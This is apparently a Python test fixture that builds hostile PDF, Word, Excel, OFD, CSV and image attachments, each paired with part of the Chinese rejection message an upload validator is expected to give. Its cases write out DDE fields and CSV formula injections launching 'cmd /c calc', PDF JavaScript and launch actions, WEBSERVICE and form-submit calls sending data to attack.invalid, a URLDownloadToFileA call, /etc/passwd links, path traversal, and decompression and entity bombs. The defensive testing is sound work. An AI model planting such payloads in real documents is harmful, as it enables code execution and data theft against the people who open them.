"""Attachments that act, fetch, hide or carry something, each with a part of its refusal."""

from __future__ import annotations

import zlib

from support.archives import png_chunk, zip_bytes
from support.office_files import (
    SHEET_TYPE,
    docx_of,
    field,
    field_runs,
    formula,
    ofd_of,
    relationships,
    xlsx_of,
)
from support.pdf_files import object_stream, pdf_bytes, stream
from support.picture_files import jpeg_of, png_of

_OFFICE = "application/vnd.openxmlformats-officedocument."
_EXE = "application/vnd.ms-office.vbaProject"
_TEXT_RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
SCRIPT, RUNS, EMBEDDED, ENCRYPTED = "带有脚本", "执行动作", "夹带别的文件", "设了密码"
OUTSIDE, PART, LINK, FIELD, FORMULA, BOMB = (
    "到别处取内容",
    "不能公布的部分",
    "不是网址的链接",
    "不能公布的域",
    "的公式",
    "压缩炸弹",
)
RELATION = "不能公布的关联"


def _bomb(megabytes: int) -> bytes:
    """Return a compressed stream of as many megabytes of zeroes."""
    packer = zlib.compressobj(9)
    start = packer.compress(b"0") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + block * megabytes


PDFS: dict[str, tuple[bytes, str]] = {
    "script on open": (pdf_bytes("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), SCRIPT),
    "script with an escaped name": (pdf_bytes("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), SCRIPT),
    "script in the name tree": (
        pdf_bytes("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", objects={6: "<< /S /JavaScript /JS (x) >>"}),
        SCRIPT,
    ),
    "script in an object stream": (
        pdf_bytes("/OpenAction 7 0 R", objects={6: object_stream({7: "<< /S /JavaScript /JS (x) >>"})}),
        SCRIPT,
    ),
    "script after an allowed action": (
        pdf_bytes("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>"), SCRIPT,
    ),
    "script of a form field": (
        pdf_bytes("/AcroForm << /Fields [6 0 R] >>", objects={6: "<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (x) >> >> >>"}),
        SCRIPT,
    ),
    "program started on open": (pdf_bytes("/OpenAction << /S /Launch /F (cmd.exe) >>"), RUNS),
    "program started by a link": (
        pdf_bytes(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>]"), RUNS,
    ),
    "address opened on open": (pdf_bytes("/OpenAction << /S /URI /URI (https://attack.invalid/) >>"), RUNS),
    "address opened with a page": (pdf_bytes(page="/AA << /O << /S /URI /URI (https://attack.invalid/) >> >>"), RUNS),
    "remote document on open": (pdf_bytes("/OpenAction << /S /GoToR /F (\\\\\\\\attack\\\\a.pdf) /D [0 /Fit] >>"), RUNS),
    "remote document by a link": (
        pdf_bytes(page="/Annots [6 0 R]", objects={6: "<< /Subtype /Link /A << /S /GoToR /F (//attack/a.pdf) >> >>"}), RUNS,
    ),
    "form sent on open": (pdf_bytes("/OpenAction << /S /SubmitForm /F (https://attack.invalid/) >>"), RUNS),
    "form sent on closing": (pdf_bytes("/AA << /WC << /S /SubmitForm /F (https://attack.invalid/) >> >>"), RUNS),
    "data imported": (pdf_bytes(page="/Annots [<< /Subtype /Link /A << /S /ImportData /F (a.fdf) >> >>]"), RUNS),
    "action in an outline": (pdf_bytes("/Outlines 6 0 R", objects={6: "<< /First 7 0 R /Last 7 0 R >>", 7: "<< /Title (a) /Parent 6 0 R /A << /S /Rendition >> >>"}), RUNS),
    "orphaned action": (pdf_bytes(objects={6: "<< /Type /Action /S /Launch /F (a) >>"}), RUNS),
    "printing at once": (pdf_bytes("/OpenAction << /S /Named /N /Print >>"), RUNS),
    "embedded file": (
        pdf_bytes("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
                  objects={6: "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", 7: stream(b"MZ", "/Type /EmbeddedFile")}),
        EMBEDDED,
    ),
    "attached to a page": (pdf_bytes(page="/AF [6 0 R]", objects={6: "<< /Type /Filespec /F (a) >>"}), EMBEDDED),
    "portfolio": (pdf_bytes("/Collection << /View /D >>"), EMBEDDED),
    "file icon": (pdf_bytes(page="/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"), "文件图标"),
    "sound": (pdf_bytes(page="/Annots [<< /Subtype /Sound /Rect [0 0 9 9] >>]"), "音频"),
    "rich media": (pdf_bytes(page="/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "音频"),
    "dynamic form": (pdf_bytes("/AcroForm << /Fields [] /XFA 6 0 R >>", objects={6: stream(b"<xdp/>")}), "动态表单"),
    "stream from another file": (pdf_bytes(objects={6: stream(b"", "/F (//attack/a)")}), "别的文件里取内容"),
    "PostScript": (
        pdf_bytes(page="/XObject << /a 6 0 R >>", objects={6: stream(b"quit", "/Type /XObject /Subtype /PS")}), "不认识",
    ),
    "page of another file": (
        pdf_bytes(objects={6: stream(b"", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (//attack/a.pdf) /Page 0 >>")}),
        "别的文件里取内容",
    ),
    "encrypted": (
        pdf_bytes(objects={6: "<< /Filter /Standard /V 1 /R 2 /P -4 /O (" + "o" * 32 + ") /U (" + "u" * 32 + ") >>"},
                  trailer="/Encrypt 6 0 R /ID [(a) (a)]"), "密码"),
    "stream that unpacks to half a gigabyte": (
        pdf_bytes(objects={6: stream(_bomb(500), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")}), BOMB,
    ),
    "unknown filter": (pdf_bytes(objects={6: stream(b"x", "/Filter /Attack")}), "不认识"),
    "script as a link's address": (
        pdf_bytes(page="/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:x) >> >>]"), LINK,
    ),
    "file as a link's address": (
        pdf_bytes(page="/Annots [<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>]"), LINK,
    ),
    "base address": (pdf_bytes("/URI << /Base (file://attack/) >>"), LINK),
    "hidden by its own table": (
        pdf_bytes("/OpenAction 6 0 R", objects={6: "<< /S /GoTo /D [3 0 R /Fit] >>"}).replace(
            b"%%EOF", b"6 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n%%EOF"), SCRIPT,
    ),
    "archive after the end": (pdf_bytes() + zip_bytes({"a.exe": b"MZ"}), "结尾以后"),
    "web page before the start": (b"<html><script>x</script>" + pdf_bytes(), "的内容是网页"),
}  # fmt: skip

_IMAGE = relationships(("image", "https://attack.invalid/a.png", "External"))
DOCX: dict[str, tuple[bytes, str]] = {
    "macro project": (docx_of(parts={"word/vbaProject.bin": b"x"}, bin=_EXE), PART),
    "macro project under another name": (docx_of(parts={"word/theme.dat": b"x"}, dat=_EXE), PART),
    "macro-enabled type": (docx_of(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "主文档带宏"),
    "remote template": (docx_of(links=relationships(("attachedTemplate", "https://attack.invalid/a.dotm", "External"))), RELATION),
    "remote picture": (docx_of(links=_IMAGE), OUTSIDE),
    "picture on a share": (docx_of(links=relationships(("image", "file://attack/a.png", "External"))), OUTSIDE),
    "remote picture in VML": (
        docx_of('<w:p><w:r><w:pict><v:shape><v:imagedata src="https://attack.invalid/a.png"/></v:shape></w:pict></w:r></w:p>'),
        OUTSIDE,
    ),
    "picture's origin in VML": (
        docx_of('<w:p><w:r><w:pict><v:imagedata o:href="https://attack.invalid/a.png"/></w:pict></w:r></w:p>'), OUTSIDE,
    ),
    "script as a shape's address": (docx_of('<w:p><w:r><v:shape href="javascript:x"/></w:r></w:p>'), OUTSIDE),
    "altChunk": (
        docx_of("<w:altChunk/>", parts={"word/a.html": b"<script>"}, links=relationships(("aFChunk", "a.html")), html="text/html"),
        PART,
    ),
    "OLE object": (
        docx_of(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
                links=relationships(("oleObject", "embeddings/oleObject1.bin")), bin=f"{_OFFICE}oleObject"), PART,
    ),
    "linked OLE object": (docx_of(links=relationships(("oleObject", "https://attack.invalid/a", "External"))), RELATION),
    "embedded workbook": (
        docx_of(parts={"word/embeddings/a.xlsx": xlsx_of()}, links=relationships(("package", "embeddings/a.xlsx")),
                xlsx="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), PART,
    ),
    "sub-document": (docx_of(links=relationships(("subDocument", "//attack/a.docx", "External"))), RELATION),
    "control": (docx_of(parts={"word/activeX/activeX1.xml": b"<x/>"}, types={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}), PART),
    "ribbon": (docx_of(parts={"customUI/customUI.xml": b"<customUI/>"}), PART),
    "program as a part": (docx_of(parts={"word/media/a.exe": b"MZ"}, exe="application/octet-stream"), PART),
    "program as a picture": (docx_of(parts={"word/media/a.png": b"MZ"}, png="image/png"), "图片以外"),
    "part of no type": (docx_of(parts={"word/a.dat": b"x"}), PART),
    "key bindings": (
        docx_of(parts={"word/customizations.xml": b"<x/>"}, types={"word/customizations.xml": "application/vnd.ms-word.keyMapCustomizations+xml"}), PART,
    ),
    "DDE field": (docx_of(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot;")), f"{FIELD}“DDEAUTO”"),
    "DDE in a simple field": (docx_of('<w:p><w:fldSimple w:instr=" dde excel a.xlsx "/></w:p>'), FIELD),
    "DDE over several runs": (
        docx_of("<w:p>" + field_runs(_TEXT_RUN.format("DD") + _TEXT_RUN.format("EAUTO cmd")) + "</w:p>"), FIELD,
    ),
    "DDE built by QUOTE": (docx_of(field(field_runs(_TEXT_RUN.format("QUOTE 68 68 69"), "DDE") + _TEXT_RUN.format(" cmd"))), FIELD),
    "DDE inside another field": (docx_of(field(_TEXT_RUN.format("PAGE ") + field_runs(_TEXT_RUN.format("DDE cmd")))), FIELD),
    "DDE in the header": (
        docx_of(parts={"word/header1.xml": f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{field("DDE cmd")}</w:hdr>'.encode()},
                types={"word/header1.xml": f"{_OFFICE}wordprocessingml.header+xml"}), FIELD,
    ),
    "unfinished DDE field": (docx_of('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>'), FIELD),
    "deleted DDE field": (docx_of("<w:p>" + field_runs("<w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r>") + "</w:p>"), FIELD),
    "INCLUDEPICTURE": (docx_of(field("INCLUDEPICTURE &quot;https://attack.invalid/a.png&quot; \\d")), FIELD),
    "INCLUDETEXT": (docx_of(field("includetext &quot;//attack/a.docx&quot;")), FIELD),
    "LINK": (docx_of(field("LINK Excel.Sheet.8 c:\\a.xlsx")), FIELD),
    "DATABASE": (docx_of(field("DATABASE \\c &quot;DSN=x&quot;")), FIELD),
    "MACROBUTTON": (docx_of(field("MACROBUTTON Run 点这里")), FIELD),
    "AUTOTEXT": (docx_of(field("AUTOTEXT x")), FIELD),
    "HYPERLINK to a script": (docx_of(field("HYPERLINK &quot;javascript:x&quot;")), f"{LINK}“javascript:x”"),
    "HYPERLINK to a file behind a bookmark": (docx_of(field("HYPERLINK \\l &quot;a&quot; &quot;file:///c:/a&quot;")), LINK),
    "link to a share": (docx_of(links=relationships(("hyperlink", "\\\\attack\\a", "External"))), LINK),
    "link to a program": (docx_of(links=relationships(("hyperlink", "ms-msdt:/id", "External"))), LINK),
    "link with a line break": (docx_of(links=relationships(("hyperlink", "java&#10;script:x", "External"))), LINK),
    "link of a strict document": (
        docx_of(links=relationships(("http://purl.oclc.org/ooxml/officeDocument/relationships/image", "https://attack.invalid/", "External"))), OUTSIDE,
    ),
    "unknown relationship": (docx_of(links=relationships(("http://attack.invalid/x", "a.xml"))), RELATION),
    "target outside the archive": (docx_of(links=relationships(("image", "../../../../etc/passwd"))), OUTSIDE),
    "target with a scheme": (docx_of(links=relationships(("image", "https://attack.invalid/a.png"))), OUTSIDE),
    "mail merge": (
        docx_of(parts={"word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge/></w:settings>'},
                types={"word/settings.xml": f"{_OFFICE}wordprocessingml.settings+xml"}), "邮件合并",
    ),
    "two parts of one name": (docx_of(parts={"word/DOCUMENT.xml": b"<x/>"}), "同名"),
    "huge picture": (docx_of(parts={"word/media/a.png": png_of(60_000, 60_000, b"")}, png="image/png"), "万像素"),
    "huge GIF": (docx_of(parts={"word/media/a.gif": b"GIF89a" + b"\xff" * 7}, gif="image/gif"), "万像素"),
    "huge BMP": (docx_of(parts={"word/media/a.bmp": b"BM" + bytes(16) + b"\0\0\1\0" * 2}, bmp="image/bmp"), "万像素"),
    "huge TIFF": (
        docx_of(parts={"word/media/a.tif": b"II*\0\x08\0\0\0\2\0\0\1\4\0\1\0\0\0\0\0\1\0\1\1\4\0\1\0\0\0\0\0\1\0"}, tif="image/tiff"), "万像素",
    ),
    "truncated TIFF": (docx_of(parts={"word/media/a.tif": b"II*\0\xff\xff\xff\0"}, tif="image/tiff"), "不是完整"),
    "workbook under its name": (xlsx_of(), "的内容是Excel 表格"),
    "entity bomb": (docx_of(parts={"word/styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "XML 炸弹"),
    "old format": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "旧格式或加密"),
}  # fmt: skip

XLSX: dict[str, tuple[bytes, str]] = {
    "macro project": (xlsx_of(parts={"xl/vbaProject.bin": b"x"}, bin=_EXE), PART),
    "macro sheet": (xlsx_of(parts={"xl/macrosheets/sheet1.xml": b"<x/>"}, types={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}), PART),
    "macro-enabled type": (xlsx_of(types={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}), "主文档带宏"),
    "binary workbook": (zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"x"}), "Excel 二进制表格"),
    "connections": (xlsx_of(parts={"xl/connections.xml": b"<x/>"}, types={"xl/connections.xml": f"{_OFFICE}spreadsheetml.connections+xml"}), PART),
    "query table": (xlsx_of(parts={"xl/queryTables/queryTable1.xml": b"<x/>"}, types={"xl/queryTables/queryTable1.xml": f"{_OFFICE}spreadsheetml.queryTable+xml"}), PART),
    "external workbook": (
        xlsx_of(parts={"xl/externalLinks/externalLink1.xml": b"<x/>", "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(("externalLinkPath", "//attack/a.xlsx", "External"))},
                types={"xl/externalLinks/externalLink1.xml": f"{_OFFICE}spreadsheetml.externalLink+xml"}), PART,
    ),
    "WEBSERVICE": (xlsx_of(formula("_xlfn.WEBSERVICE(&quot;https://attack.invalid/&quot;&amp;A1)")), FORMULA),
    "WEBSERVICE in another function": (xlsx_of(formula("IF(1,_xlfn.WebService (A1),0)")), FORMULA),
    "DDE formula": (xlsx_of(formula("cmd|&apos;/c calc&apos;!A0")), FORMULA),
    "HYPERLINK formula": (xlsx_of(formula("HYPERLINK(&quot;https://attack.invalid/?&quot;&amp;A1,&quot;看&quot;)")), FORMULA),
    "IMAGE": (xlsx_of(formula("_xlfn.IMAGE(A1)")), FORMULA),
    "RTD": (xlsx_of(formula("RTD(&quot;a&quot;,,1)")), FORMULA),
    "CALL": (xlsx_of(formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,1)")), FORMULA),
    "another workbook": (xlsx_of(formula("&apos;\\\\attack\\[a.xlsx]表&apos;!A1")), FORMULA),
    "formula in a condition": (xlsx_of(sheet="<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"), FORMULA),
    "formula in a validation": (xlsx_of(sheet="<dataValidations><dataValidation><formula1>EXEC(A1)</formula1></dataValidation></dataValidations>"), FORMULA),
    "formula in a name": (xlsx_of(workbook="<definedNames><definedName name='a'>FOPEN(A1)</definedName></definedNames>"), FORMULA),
    "macro as a name": (xlsx_of(workbook="<definedNames><definedName name='_xlnm.Auto_Open' function='1'>a</definedName></definedNames>"), "运行宏"),
    "button": (
        xlsx_of(parts={"xl/drawings/vmlDrawing1.vml": b'<xml xmlns:x="urn:x"><x:ClientData ObjectType="Button"><x:FmlaMacro>a</x:FmlaMacro></x:ClientData></xml>'},
                vml=f"{_OFFICE}vmlDrawing"), "运行宏",
    ),
    "shape with a macro": (
        xlsx_of(parts={"xl/drawings/drawing1.xml": b'<d:wsDr xmlns:d="urn:d"><d:sp macro="[0]!a"/></d:wsDr>'},
                types={"xl/drawings/drawing1.xml": f"{_OFFICE}drawing+xml"}), "运行宏",
    ),
    "remote picture": (xlsx_of(links=_IMAGE), OUTSIDE),
    "file as a place in the workbook": (
        xlsx_of(sheet='<hyperlinks><hyperlink ref="A1" location="file:///c:/a.exe"/></hyperlinks>'), OUTSIDE,
    ),
    "link to a script": (xlsx_of(links=relationships(("hyperlink", "vbscript:x", "External"))), LINK),
    "OLE object": (xlsx_of(parts={"xl/embeddings/oleObject1.bin": b"x"}, bin=f"{_OFFICE}oleObject"), PART),
    "control": (xlsx_of(parts={"xl/ctrlProps/ctrlProp1.xml": b"<x/>"}, types={"xl/ctrlProps/ctrlProp1.xml": "application/vnd.ms-excel.controlproperties+xml"}), PART),
    "pivot cache": (xlsx_of(parts={"xl/pivotCache/pivotCacheDefinition1.xml": b"<x/>"}, types={"xl/pivotCache/pivotCacheDefinition1.xml": f"{_OFFICE}spreadsheetml.pivotCacheDefinition+xml"}), PART),
    "two main parts": (xlsx_of(parts={"xl/b.xml": b"<x/>"}, types={"xl/b.xml": SHEET_TYPE}), "主文档"),
}  # fmt: skip

OFD: dict[str, tuple[bytes, str]] = {
    "attachment": (
        ofd_of("<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>",
               parts={"Doc_0/Attachs/Attachments.xml": b'<o:Attachments xmlns:o="http://www.ofdspec.org/2016"><o:Attachment Name="a"/></o:Attachments>'}), EMBEDDED,
    ),
    "attached program": (ofd_of(parts={"Doc_0/Attachs/a.exe": b"MZ"}), PART),
    "program as a font": (ofd_of(parts={"Doc_0/Res/a.ttf": b"MZ"}), PART),
    "address on open": (ofd_of('<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="https://attack.invalid/"/></ofd:Action></ofd:Actions>'), RUNS),
    "attached file opened by a click": (ofd_of(page='<ofd:Actions><ofd:Action Event="CLICK"><ofd:GotoA AttachID="1"/></ofd:Action></ofd:Actions>'), "会执行动作"),
    "sound": (ofd_of('<ofd:Actions><ofd:Action Event="PO"><ofd:Sound ResourceID="1"/></ofd:Action></ofd:Actions>'), "会执行动作"),
    "script as an address": (ofd_of(page='<ofd:Actions><ofd:Action Event="CLICK"><ofd:URI URI="javascript:x"/></ofd:Action></ofd:Actions>'), LINK),
    "video": (ofd_of(parts={"Doc_0/DocumentRes.xml": b'<o:Res xmlns:o="http://www.ofdspec.org/2016"><o:MultiMedia ID="1" Type="Video"/></o:Res>'}), "视频"),
    "picture outside": (ofd_of(parts={"Doc_0/PublicRes.xml": b'<o:Res xmlns:o="http://www.ofdspec.org/2016"><o:MediaFile>https://attack.invalid/a.png</o:MediaFile></o:Res>'}), "文件以外"),
    "folder outside": (ofd_of(parts={"Doc_0/PublicRes.xml": b'<o:Res xmlns:o="http://www.ofdspec.org/2016" BaseLoc="../../../../../etc"/>'}), "文件以外"),
    "unknown document": (ofd_of(parts={"Doc_0/a.xml": b"<script/>"}), PART),
    "encrypted": (ofd_of(parts={"Encryptions.xml": b'<o:Encryptions xmlns:o="http://www.ofdspec.org/2016"/>'}), PART),
}  # fmt: skip

OTHERS: dict[str, tuple[str, bytes, str]] = {
    "formula in a CSV": (".csv", "序号,=cmd|'/c calc'!A0\n".encode(), "当作公式运行"),
    "formula after a semicolon": (".csv", '甲;"=HYPERLINK(""https://attack.invalid"")"\n'.encode(), "当作公式运行"),
    "formula after a tab": (".csv", "甲\t@SUM(1+1)*cmd\n".encode(), "当作公式运行"),
    "formula after a bar": (".csv", "甲|=1+1\n".encode(), "当作公式运行"),
    "formula after a hidden character": (".csv", "甲,\u200b=1+1\n".encode(), "当作公式运行"),
    "formula after a space": (".csv", "甲, =1+1\n".encode(), "当作公式运行"),
    "formula with a plus sign": (".csv", "甲,+cmd|'/c'!A0\n".encode(), "当作公式运行"),
    "formula with a full-width sign": (".csv", "甲,＝1+1\n".encode(), "当作公式运行"),
    "cell too large to read": (".csv", b'"' + b"x" * 200_000 + b'",=cmd\n', "不是完整"),
    "CSV in GBK": (".csv", "序号,问题".encode("gb18030"), "GBK"),
    "text in GBK": (".txt", "问题清单".encode("gb18030"), "GBK"),
    "text in UTF-16": (".txt", "问题清单".encode("utf-16"), "UTF-16"),
    "web page as text": (".txt", b"<html><script>x</script>", "的内容是网页"),
    "control sequences": (".txt", b"\x1b]0;x\x07", "不是完整"),
    "huge PNG": (".png", png_of(50_000, 50_000, b""), "万像素"),
    "PNG with too many rows": (".png", png_of(rows=bytes(5_000_000)), BOMB),
    "PNG with a profile bomb": (".png", png_of(extra=png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(9_000_000)))), BOMB),
    "archive after a PNG": (".png", png_of(after=zip_bytes({"a": b"b"})), "藏着别的数据"),
    "foreign chunk": (".png", png_of(extra=png_chunk(b"eviL", b"x")), "图片以外"),
    "huge JPEG": (".jpg", jpeg_of(60_000, 60_000), "万像素"),
    "JPEG without a height": (".jpg", jpeg_of(9, 0), "不是完整"),
    "JPEG with endless scans": (".jpg", jpeg_of(scans=500), BOMB),
    "script after a JPEG": (".jpeg", jpeg_of(after=b"<script>x</script>"), "藏着别的数据"),
    "script as a JPEG": (".jpg", b"#!/bin/sh\n", "的内容是脚本程序"),
}  # fmt: skip

HOSTILE: dict[str, tuple[str, bytes, str]] = {
    **{f"PDF: {name}": (".pdf", *case) for name, case in PDFS.items()},
    **{f"Word: {name}": (".docx", *case) for name, case in DOCX.items()},
    **{f"Excel: {name}": (".xlsx", *case) for name, case in XLSX.items()},
    **{f"OFD: {name}": (".ofd", *case) for name, case in OFD.items()},
    **OTHERS,
}
"""Name -> ending, content, part of the message."""
